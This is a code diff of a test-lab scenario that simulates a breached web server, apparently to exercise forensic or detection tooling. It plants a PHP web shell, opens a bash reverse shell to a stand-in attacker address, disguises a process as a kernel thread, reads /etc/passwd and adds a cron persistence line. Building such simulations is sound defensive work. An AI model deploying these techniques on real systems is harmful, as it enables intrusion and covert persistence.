@@ -3,47 +3,50 @@
 from __future__ import annotations
 
 import os
-import shutil
 import socket
-import subprocess
 from pathlib import Path
 from typing import Any
 
-from tests.lab.inside import actors, libc, shell, sockets
+from tests.lab.inside import actors, libc, scenario, shell, sockets
 
 WEB, ROOT = 33, 0
 HOME = "/var/www/html"
-OWN, OTHER = "192.0.2.10", "203.0.113.66"
+OWN, ROUTER = "192.0.2.10", "192.0.2.2"
+ATTACKER = ("192.0.2.66", 4444)
+"""Played by QEMU: see demo.py."""
 TYPED = [
     "id",
     "cd /dev/shm",
-    "chmod +x .kw",
-    "./.kw &",
+    "cp /usr/bin/sleep .kw",
+    "(exec -a '[kworker/0:1]' ./.kw 100000) &",
     "rm .kw",
-    "cat /etc/passwd > /tmp/.x",
-    "echo '* * * * * /dev/shm/.kw' >> /tmp/.cron",
+    "tail -n 2 /etc/passwd > /tmp/.x",
+    "echo '* * * * * root /dev/shm/.kw' >> /tmp/.cron",
 ]
+"""A miner that calls itself a kernel thread, and whose program is gone; and what else was done by hand."""
 
 
 def run() -> dict[str, Any]:
     """A web server, what came in through it, and what it left running."""
     libc.sethostname(b"web1")
-    for module in ("dummy", "veth", "loop", "nf_tables"):
-        subprocess.run(["modprobe", module], check=False, stderr=subprocess.DEVNULL)
-    _configure_network()
+    scenario.load_modules("virtio_net", "nf_tables", "loop")
+    sockets.ip(
+        "link set lo up",
+        f"addr add {OWN}/24 dev eth0",
+        "link set eth0 up",
+        f"route add default via {ROUTER}",
+    )
     Path(HOME).mkdir(parents=True)
     Path(f"{HOME}/index.html").write_text("<h1>It works!</h1>")
     Path(f"{HOME}/upload.php").write_text("<?php system($_GET['c']); ?>")
-    attacker = actors.start("attacker", _attacker)
     started = [
-        actors.start("sshd", _listens, 22, ROOT, name=b"sshd"),
-        actors.start("web", _listens, 80, WEB, name=b"nginx"),
-        actors.start("look_alike", _look_alike),
+        actors.start("sshd", _listens, 22, ROOT, b"sshd: /usr/sbin/sshd [listener]", name=b"sshd"),
+        actors.start("web", _listens, 80, WEB, b"nginx: worker process", name=b"nginx"),
         actors.start("reverse_shell", _reverse_shell),
         actors.start("memfd", _from_memfd),
     ]
     typed = shell.typed("shell", TYPED, ROOT, {"HOME": "/root", "HISTFILE": "/dev/null"})
-    roles = [attacker, *started, typed]
+    roles = [*started, typed]
     return {
         "roles": {role["role"]: role["pid"] for role in roles},
         "history": {str(typed["pid"]): typed["history"]},
@@ -54,50 +57,23 @@ def last_moment() -> None:
     """Nothing that passes is told in the demonstration."""
 
 
-def _configure_network() -> None:
-    """The attacker is a network namespace away."""
-    sockets.ip("link set lo up")
-    sockets.ip("netns add outside")
-    sockets.ip("link add eth0 type veth peer name eth1 netns outside")
-    sockets.ip(f"addr add {OWN}/24 dev eth0")
-    sockets.ip("link set eth0 up")
-    sockets.ip("route add default dev eth0")
-    sockets.ip(f"-n outside addr add {OTHER}/24 dev eth1")
-    sockets.ip("-n outside link set eth1 up")
-    sockets.ip("-n outside route add default dev eth1")
-
-
-def _attacker() -> list[Any]:
-    """The far end, which listens for the shell and has a look at the site."""
-    with open("/run/netns/outside") as namespace:
-        libc.setns(namespace.fileno())
-    return [socket.create_server(("0.0.0.0", 4444))]
-
-
-def _listens(port: int, uid: int) -> list[Any]:
+def _listens(port: int, uid: int, command_line: bytes) -> list[Any]:
     server = socket.create_server(("0.0.0.0", port))
+    libc.set_command_line(command_line)
     actors.user(uid)
     return [server]
 
 
-def _look_alike() -> None:
-    """A miner that calls itself a kernel thread, and whose program is gone."""
-    hidden = "/dev/shm/.kw"
-    shutil.copy("/usr/bin/sleep", hidden)
-    program = os.open(hidden, os.O_RDONLY)
-    os.unlink(hidden)
-    actors.user(WEB)
-    actors.become(f"/proc/self/fd/{program}", [b"[kworker/0:1]", b"100000"])
-
-
 def _reverse_shell() -> None:
     """bash with its standard streams on a connection to the attacker."""
-    connection = socket.create_connection((OTHER, 4444))
+    connection = socket.create_connection(ATTACKER)
     actors.user(WEB)
     os.chdir(HOME)
     for descriptor in range(3):
         os.dup2(connection.fileno(), descriptor)
-    actors.become("/bin/bash", [b"bash", b"-i"], {b"PATH": b"/usr/bin:/bin", b"REMOTE_ADDR": OTHER.encode()})
+    actors.become(
+        "/bin/bash", [b"bash", b"-i"], {b"PATH": b"/usr/bin:/bin", b"REMOTE_ADDR": ATTACKER[0].encode()}
+    )
 
 
 def _from_memfd() -> None:
